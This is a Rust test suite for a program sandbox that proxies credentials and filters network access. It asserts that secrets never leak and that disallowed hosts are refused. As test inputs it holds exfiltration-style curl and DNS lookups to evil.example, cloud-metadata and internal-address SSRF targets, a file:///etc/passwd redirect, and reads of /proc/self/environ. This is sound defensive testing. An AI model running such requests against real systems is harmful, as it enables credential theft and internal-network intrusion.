//! What programs in cells reach: credentials that they never have, tools that work through the proxy, and the record.

use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use autoshare_testkit::{Canary, Certified, PUBLIC, is_own_network};
use serde_json::{Value, json};

use crate::desk::{Desk, Ran, at_terminal};
use crate::secrets::keep;

/// An HTTPS server of files and repositories, and the desk from which it is reached.
pub(crate) struct Origin {
    pub(crate) desk: Desk,
    /// The files.
    folder: PathBuf,
    log: PathBuf,
    /// `127.0.0.1:PORT`
    pub(crate) target: String,
    child: Child,
}

impl Origin {
    pub(crate) fn start() -> Self {
        Self::start_at("127.0.0.1", 0, &["127.0.0.1"])
    }

    /// At an address and port, for these names.
    fn start_at(address: &str, port: u16, names: &[&str]) -> Self {
        let desk = Desk::new();
        let base = desk.base.path().to_owned();
        let (folder, log) = (base.join("origin"), base.join("asked"));
        std::fs::create_dir(&folder).unwrap();
        std::fs::write(&log, "").unwrap();
        let certified = Certified::new(names);
        let put = |name: &str, text: &str| {
            std::fs::write(base.join(name), text).unwrap();
            base.join(name)
        };
        let (certificate, key) = (put("certificate.pem", &certified.certificate), put("key.pem", &certified.key));
        put("ca.pem", &certified.ca);
        let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/origin.py");
        let mut command = Command::new("/usr/bin/python3");
        command
            .arg(helper)
            .args([&folder, &certificate, &key, &log])
            .args([address, &port.to_string()])
            .stdout(Stdio::piped());
        let mut child = command.spawn().unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        let config = desk.home.join(".config/autoshare");
        std::fs::create_dir_all(&config).unwrap();
        let text = format!("[network]\nca_file = {:?}\n", base.join("ca.pem"));
        std::fs::write(config.join("autoshare.toml"), text).unwrap();
        Self { desk, folder, log, target: format!("{address}:{}", line.trim()), child }
    }

    fn put(&self, name: &str, content: impl AsRef<[u8]>) {
        let path = self.folder.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    /// Keeps a secret for this server.
    pub(crate) fn keep(&self, name: &str, form: &str, value: &str) {
        let kept = keep(&self.desk, &[name, "--host", &self.target, "--form", form], value);
        assert_eq!(kept.code, Some(0), "{kept:?}");
    }

    fn exec(&self, flags: &[&str], script: &str) -> Ran {
        self.desk.autoshare([&["exec"], flags, &["--", "sh", "-c", script]].concat())
    }

    /// What was asked so far.
    pub(crate) fn asked(&self) -> Vec<Value> {
        let text = std::fs::read_to_string(&self.log).unwrap();
        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    }

    fn net(&self, brain: &str) -> Vec<Value> {
        self.desk.autoshare(["net", brain, "--json"]).json_lines()
    }
}

impl Drop for Origin {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn c6_a_credential_reaches_its_host_and_nothing_of_the_program() {
    let (origin, key) = (Origin::start(), Canary::new());
    origin.keep("API_KEY", "bearer", key.as_str());
    let url = format!("https://{}", origin.target);
    let script = format!(
        "env; cat /proc/self/environ; curl -sS {url}/echo; curl -sS -H \"Authorization: Bearer $API_KEY\" {url}/echo; \
         curl -sS -H \"X-Other: $API_KEY\" {url}/echo; python3 -c 'import ssl, os; print(ssl.get_default_verify_paths())'; \
         ls -A ~ /tmp; cat $SSL_CERT_FILE | tail -n 3"
    );
    let ran = origin.exec(&["--credential", "API_KEY"], &script);
    assert_eq!(ran.code, Some(0), "{ran:?}");
    let bore: Vec<Value> = origin.asked().iter().map(|one| one["headers"]["authorization"].clone()).collect();
    assert_eq!(bore, vec![json!(format!("Bearer {key}")); 2], "both requests bore it, and the third was not sent");
    assert!(ran.out.contains("API_KEY=autoshare-placeholder-API_KEY"), "{ran:?}");
    assert!(ran.out.contains("placeholder of API_KEY stands in another part"), "{ran:?}");
    assert!(ran.err.contains("autoshare: refused a request: the placeholder of API_KEY"), "{ran:?}");
    for text in [&ran.out, &ran.err] {
        assert!(!key.is_in(text.as_bytes()), "{text}");
    }
    assert_eq!(key.find_in(&origin.desk.home), Vec::<PathBuf>::new());
    assert_eq!(key.find_in(&origin.desk.workspace), Vec::<PathBuf>::new());
    let brain = origin.desk.brain();
    for command in ["logs", "show", "net"] {
        for json in [&["--json"][..], &[]] {
            let shown = origin.desk.autoshare([&[command, &brain], json].concat());
            assert!(!key.is_in(shown.out.as_bytes()) && shown.code == Some(0), "{command}: {shown:?}");
        }
    }
    let rows = origin.net(&brain);
    let with: Vec<&Value> = rows.iter().filter(|row| row["credential"] == "API_KEY").collect();
    assert_eq!(with.len(), 1, "{rows:?}");
    assert!(
        with[0]["target"] == json!(origin.target) && with[0]["connections"] == 2 && with[0]["refused"] == 1,
        "{rows:?}"
    );
    assert!(origin.desk.data().join("trust").read_dir().unwrap().next().is_none(), "what the cell trusted is gone");
    let unknown = origin.exec(&["--credential", "OTHER"], "touch it-ran");
    assert!(unknown.code == Some(2) && unknown.err.contains("there are: API_KEY"), "{unknown:?}");
    let elsewhere = origin.exec(&["--credential", "API_KEY=api.example.org"], "touch it-ran");
    assert!(elsewhere.code == Some(2) && elsewhere.err.contains("is for 127.0.0.1:"), "{elsewhere:?}");
    assert_eq!(origin.desk.read("it-ran"), None);
}

/// A name server of a network of our own.
struct Names {
    log: PathBuf,
    child: Child,
}

impl Names {
    fn start(desk: &Desk, known: &[&str]) -> Self {
        let log = desk.base.path().join("names");
        let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/names.py");
        let mut command = Command::new("/usr/bin/python3");
        let mut child = command.arg(helper).arg(&log).args(known).stdout(Stdio::piped()).spawn().unwrap();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut String::new()).unwrap();
        Self { log, child }
    }
}

impl Drop for Names {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// All of a process's memory that can be read.
fn is_in_memory(key: &Canary, pid: u32) -> bool {
    use std::os::unix::fs::FileExt as _;
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
    let memory = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
    maps.lines().filter(|line| line.contains(" r") && !line.contains("[v")).any(|line| {
        let range = line.split(' ').next().unwrap();
        let (from, to) = range.split_once('-').unwrap();
        let [from, to] = [from, to].map(|text| u64::from_str_radix(text, 16).unwrap());
        let mut bytes = vec![0; usize::try_from(to - from).unwrap().min(1 << 28)];
        memory
            .read_at(&mut bytes, from)
            .is_ok_and(|read| bytes[..read].windows(key.as_str().len()).any(|window| window == key.as_str().as_bytes()))
    })
}

/// A process's children, their children, and so on.
fn descendants(pid: u32) -> Vec<u32> {
    let parent = |entry: std::fs::DirEntry| {
        let child: u32 = entry.file_name().to_str()?.parse().ok()?;
        let stat = std::fs::read_to_string(entry.path().join("stat")).ok()?;
        let parent = stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse().ok()?;
        Some((child, parent))
    };
    let all: Vec<(u32, u32)> = std::fs::read_dir("/proc").unwrap().filter_map(|entry| parent(entry.ok()?)).collect();
    let mut found = vec![pid];
    let mut at = 0;
    while let Some(one) = found.get(at).copied() {
        found.extend(all.iter().filter(|(_, parent)| *parent == one).map(|(child, _)| *child));
        at += 1;
    }
    found.split_off(1)
}

#[test]
fn c6_a_credential_is_in_the_memory_of_no_process_of_the_cell() {
    let (origin, key) = (Origin::start(), Canary::new());
    origin.keep("API_KEY", "bearer", key.as_str());
    let script = format!(
        "import urllib.request, time\n\
         said = urllib.request.urlopen('https://{}/echo').read()\n\
         open('there', 'w').write('x')\n\
         time.sleep(60)",
        origin.target
    );
    let mut command =
        origin.desk.command(["exec", "--credential", "API_KEY", "--", "sh", "-c", "python3 -c \"$0\"; true", &script]);
    let mut child = command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    let begun = std::time::Instant::now();
    while origin.desk.read("there").is_none() {
        assert!(begun.elapsed().as_secs() < 60, "it does not begin");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let all = descendants(child.id());
    // The launcher, the first process of the cell, the shell, the program.
    assert!(all.len() >= 4, "{all:?}");
    let found: Vec<&u32> = all.iter().filter(|pid| is_in_memory(&key, **pid)).collect();
    let control = !rustix::process::geteuid().is_root() || is_in_memory(&key, child.id());
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(found, Vec::<&u32>::new());
    assert!(control, "the control: the host has it");
}

#[test]
fn what_was_reached_and_refused_is_recorded_and_shown() {
    let origin = Origin::start();
    origin.put("a", "0123456789".repeat(1000));
    let flags = ["--allow-host", &format!("GET https://{}/a", origin.target)];
    let script = format!(
        "curl -sS -o out https://{0}/a && wc -c < out; curl -s https://{0}/b; curl -s https://evil.example/; \
         curl -s http://other.example/; true",
        origin.target
    );
    let ran = origin.exec(&flags, &script);
    assert!(ran.out.starts_with("10000\n") && ran.out.contains("GET /b of 127.0.0.1"), "{ran:?}");
    let brain = origin.desk.brain();
    let rows = origin.net(&brain);
    let row = |target: &str| rows.iter().find(|row| row["target"] == json!(target)).unwrap();
    let here = row(&origin.target);
    assert!(here["connections"] == 1 && here["refused"] == 1 && here["received"].as_u64().unwrap() > 10_000, "{here}");
    assert_eq!(row("evil.example:443")["refused"], 1);
    assert_eq!(row("other.example")["refused"], 1);
    let shown = origin.desk.autoshare(["net", &brain]).out;
    assert!(shown.starts_with("host ") && shown.contains("evil.example:443"), "{shown}");
    let events = origin.desk.journal();
    assert!(events.iter().any(|event| event["record"]["event"] == "reach"), "{events:?}");
    let nothing = Desk::new();
    nothing.autoshare(["exec", "--", "true"]);
    assert!(nothing.autoshare(["net", &nothing.brain()]).err.contains("reached nothing"));
}

#[test]
fn a_person_is_asked_about_a_host_once() {
    let origin = Origin::start();
    origin.put("a", "the file\n");
    let ca = origin.desk.base.path().join("ca.pem");
    origin.desk.write("ca.pem", &std::fs::read_to_string(ca).unwrap());
    let script = format!("for i in 1 2; do curl -sS --cacert ca.pem https://{}/a; done; echo over", origin.target);
    let question = format!("allow {} for this brain? [y/N]", origin.target);
    let run = |key: &str| {
        let steps = json!([["wait", question], ["type", key], ["wait", "over"]]);
        let seen = at_terminal(&origin.desk, &steps, &["--ask-hosts", "--", "sh", "-c", &script]);
        seen["out"].as_str().unwrap().to_owned()
    };
    let no = run("n");
    assert!(!no.contains("the file") && no.matches("[y/N]").count() == 1, "{no}");
    let yes = run("y");
    assert!(yes.matches("the file").count() == 2 && yes.matches("[y/N]").count() == 1, "{yes}");
    let brains = origin.desk.autoshare(["ps", "--json"]).json_lines();
    let said: String =
        brains.iter().map(|row| origin.desk.autoshare(["net", row["brain"].as_str().unwrap()]).err).collect();
    for word in ["yes", "no"] {
        let words = format!("was asked whether {} may be reached, and said {word}", origin.target);
        assert!(said.contains(&words), "{word}: {said}");
    }
    let before = origin.asked().len();
    let nobody = origin.exec(&["--ask-hosts"], &format!("curl -sk https://{}/a", origin.target));
    assert!(nobody.err.contains("there is no terminal to ask at") && nobody.code != Some(0), "{nobody:?}");
    assert_eq!(origin.asked().len(), before);
}

/// The tools that programs and agents use, each against a server of its own kind, with a credential that they never have.
#[test]
fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
    // Of a host that is an address npm verifies another name: they are given one that has a name.
    if !is_own_network("network::c6_curl_git_pip_npm_and_cargo_work_through_the_proxy") {
        return;
    }
    let (mut origin, key) = (Origin::start_at(PUBLIC[0], 443, &["tools.example"]), Canary::new());
    origin.target = "tools.example".to_owned();
    let _names = Names::start(&origin.desk, &[&format!("tools.example={}", PUBLIC[0])]);
    let url = format!("https://{}", origin.target);
    let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/stock.py");
    let stocked = Command::new("/usr/bin/python3").arg(helper).arg(&origin.folder).arg(&url).output().unwrap();
    assert!(stocked.status.success(), "{}", String::from_utf8_lossy(&stocked.stderr));
    let sysroot = Path::new(env!("CARGO")).parent().unwrap().parent().unwrap().to_str().unwrap();
    origin.keep("TOKEN", "bearer", key.as_str());
    origin.keep("GIT_TOKEN", "basic:x-access-token", key.as_str());
    let cargo = format!(
        "mkdir -p cargo/src cargo/.cargo && cd cargo && touch src/lib.rs && \
         printf '[package]\\nname = \"it\"\\nversion = \"1.0.0\"\\nedition = \"2021\"\\n[dependencies]\\ntiny = {{ version = \"1\", registry = \"mine\" }}\\n' > Cargo.toml && \
         printf '[registries.mine]\\nindex = \"sparse+{url}/index/\"\\n' > .cargo/config.toml && \
         PATH=$PATH:{sysroot}/bin CARGO_HOME=/tmp/cargo cargo fetch -q && cat /tmp/cargo/registry/src/*/tiny-1.0.0/src/lib.rs"
    );
    // (credential, script, its output, paths that were asked for)
    let table = [
        ("TOKEN", format!("curl -fsS -o page {url}/simple/tiny/ && head -c 8 page"), "<a href=", vec!["/simple/tiny/"]),
        (
            "GIT_TOKEN",
            format!(
                "git clone -q {url}/git/tiny.git && cd tiny && git log --format=%s && \
                 git -c user.name=a -c user.email=a@b commit -q --allow-empty -m pushed && git push -q && \
                 git ls-remote | wc -l"
            ),
            "tiny of git\n2\n",
            vec!["/git/tiny.git/git-upload-pack", "/git/tiny.git/git-receive-pack"],
        ),
        (
            "TOKEN",
            format!(
                "/usr/bin/python3 -m pip install -q --retries 0 --disable-pip-version-check --no-cache-dir --target lib \
                 --index-url {url}/simple/ tiny && PYTHONPATH=lib python3 -c 'import tiny; print(tiny.word)'"
            ),
            "tiny of pip\n",
            vec!["/wheels/tiny-1.0-py3-none-any.whl"],
        ),
        (
            "TOKEN",
            format!(
                "mkdir npm && cd npm && npm install --silent --fetch-retries 0 --no-audit --no-fund --registry {url}/npm/ tiny && \
                 node -e 'console.log(require(\"tiny\"))'"
            ),
            "tiny of npm\n",
            vec!["/npm/tiny", "/npm-files/tiny-1.0.0.tgz"],
        ),
        ("TOKEN", cargo, "// tiny of cargo\n", vec!["/index/config.json", "/crates/tiny-1.0.0.crate"]),
    ];
    for (name, script, output, paths) in table {
        let before = origin.asked().len();
        let flags = ["--read", sysroot, "--credential", name];
        let ran = origin.exec(&flags, &script);
        assert!(ran.code == Some(0) && ran.out.ends_with(output), "{script}: {ran:?}");
        let asked = origin.asked().split_off(before);
        for path in paths {
            let found = |one: &&Value| one["path"].as_str().unwrap().split('?').next() == Some(path);
            let one = asked.iter().find(found).unwrap_or_else(|| panic!("{path}: {asked:?}"));
            assert!(key.is_in(one["headers"]["authorization"].as_str().unwrap().as_bytes()), "{path}: {one}");
        }
        assert!(!key.is_in(format!("{ran:?}").as_bytes()), "{script}");
        let without = origin
            .exec(&["--limit", "time=60", "--read", sysroot], &format!("rm -rf page tiny lib npm cargo; {script}"));
        assert!(without.code != Some(0), "the control: no way out: {script}: {without:?}");
        assert_eq!(key.find_in(&origin.desk.workspace), Vec::<PathBuf>::new());
    }
}

/// Rows C1 to C4 and C7 with a name server and a server of our own on an address of the internet's, through real programs.
#[test]
fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_nothing_leaks_by_names() {
    if !is_own_network(
        "network::c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_nothing_leaks_by_names",
    ) {
        return;
    }
    let names = ["files.example", "rebound.example", "xn--bcher-kva.example"];
    let origin = Origin::start_at(PUBLIC[0], 443, &names);
    origin.put("a", "the file\n");
    let known = [
        format!("files.example={}", PUBLIC[0]),
        format!("xn--bcher-kva.example={}", PUBLIC[0]),
        format!("rebound.example={},127.0.0.1", PUBLIC[0]),
        "inside.example=10.0.0.1".to_owned(),
        "metadata.example=169.254.169.254".to_owned(),
        format!("evil.example={}", PUBLIC[1]),
    ];
    let known: Vec<&str> = known.iter().map(String::as_str).collect();
    let names_asked = Names::start(&origin.desk, &known);
    let ca = std::fs::read_to_string(origin.desk.base.path().join("ca.pem")).unwrap();
    origin.desk.write("ca.pem", &ca);
    let hosts = [&names[..], &["inside.example", "metadata.example"]].concat();
    let flags: Vec<&str> = hosts.iter().flat_map(|host| ["--allow-host", host]).collect();
    // (curl's arguments, what is seen)
    let table = [
        ("https://files.example/a", "the file"),
        ("https://FILES.Example./a", "the file"),
        ("https://b\u{fc}cher.example/a", "the file"),
        ("-L https://files.example/to?https://files.example/a", "the file"),
        // c2: other spellings of other hosts
        ("https://files.example@evil.example/a", "403"),
        ("https://evil.example/#@files.example/a", "403"),
        ("https://files.example.evil.example/a", "403"),
        ("https://evilfiles.example/a", "403"),
        ("http://files.example:80@evil.example/", "evil.example cannot be reached"),
        // curl takes this for a password and goes to the host that is allowed, which has nothing there: the one that is
        // judged is the one that is connected to.
        ("http://evil.example\\\\@files.example/", "files.example:80: Connection refused"),
        // c1: names that lead inside
        ("https://inside.example/", "502"),
        ("http://metadata.example/latest/", "169.254.169.254, which is not on the internet"),
        ("http://169.254.169.254/latest/", "cannot be reached"),
        ("http://localhost/", "cannot be reached"),
        // c3: the first answer is public, those after it are not
        ("https://rebound.example/a", "the file"),
        ("https://rebound.example/a", "502"),
        // c4: redirects
        ("-L https://files.example/to?https://evil.example/", "403"),
        ("-L https://files.example/to?http://127.0.0.1/", "cannot be reached"),
        ("-L https://files.example/to?http://169.254.169.254/", "cannot be reached"),
        ("-L https://files.example/to?file:///etc/passwd", "not supported"),
        // c7: data in names and URLs
        ("https://secret-data.evil.example/", "403"),
        ("http://evil.example/?data=secret-data", "cannot be reached"),
    ];
    let script: String = table
        .iter()
        .map(|(args, _)| format!("echo \"== $(curl -sS --cacert ca.pem {args} 2>&1 | tr '\\n' ' ')\"\n"))
        .collect();
    let script = format!(
        "{script}echo \"== $(git ls-remote https://evil.example/secret-data.git 2>&1 | tail -n 1)\"\n\
         echo \"== $(getent hosts secret-data.evil.example || echo unknown)\"\n\
         echo \"== $(python3 -c 'import socket; socket.getaddrinfo(\"secret-data.evil.example\", 443)' 2>&1 | tail -n 1)\""
    );
    let ran = origin.exec(&flags, &script);
    let seen: Vec<&str> = ran.out.split("== ").skip(1).collect();
    assert_eq!(seen.len(), table.len() + 3, "{ran:?}");
    for ((args, expected), seen) in table.iter().zip(&seen) {
        assert!(seen.contains(expected), "{args}: {seen}");
    }
    let rest = &seen[table.len()..];
    assert!(
        rest[0].contains("403") && rest[1].starts_with("unknown") && rest[2].contains("socket.gaierror"),
        "{rest:?}"
    );
    let asked = std::fs::read_to_string(&names_asked.log).unwrap();
    assert!(asked.contains("files.example 1\n"), "the control: {asked}");
    assert!(!asked.contains("evil") && !asked.contains("secret"), "no name was asked for that no rule allows: {asked}");
    let reached = origin.net(&origin.desk.brain());
    let evil = reached.iter().find(|row| row["target"] == "evil.example:443").unwrap();
    assert!(evil["refused"].as_u64().unwrap() >= 3 && evil["connections"] == 0, "{evil}");
}
